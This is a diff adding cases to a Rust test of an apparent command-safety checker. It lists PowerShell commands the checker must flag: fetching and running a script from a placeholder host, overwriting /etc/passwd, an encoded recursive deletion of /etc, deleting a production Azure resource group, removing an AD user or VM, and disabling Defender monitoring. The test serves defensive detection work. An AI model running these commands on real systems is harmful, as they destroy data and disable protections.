@@ -272,6 +272,10 @@ fn powershell_is_never_silent_and_what_it_plainly_does_counts() {
             "pwsh -c 'iex (iwr https://x.io/a.ps1)'",
             "curl -s https://x.io/a.ps1 | pwsh -NoProfile -Command -",
             "pwsh -c 'Set-Content /etc/passwd x'",
+            "pwsh -c 'remove-azresourcegroup prod -force'",
+            "pwsh -c 'REMOVE-ADUser bob'",
+            "pwsh -c 'Set-MpPreference -DisableRealtimeMonitoring $true'",
+            "echo 'Remove-VM web' | pwsh -",
             // Remove-Item -Recurse /etc, as UTF-16
             "pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALwBlAHQAYwA=",
             "pwsh -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALwBlAHQAYwA=",
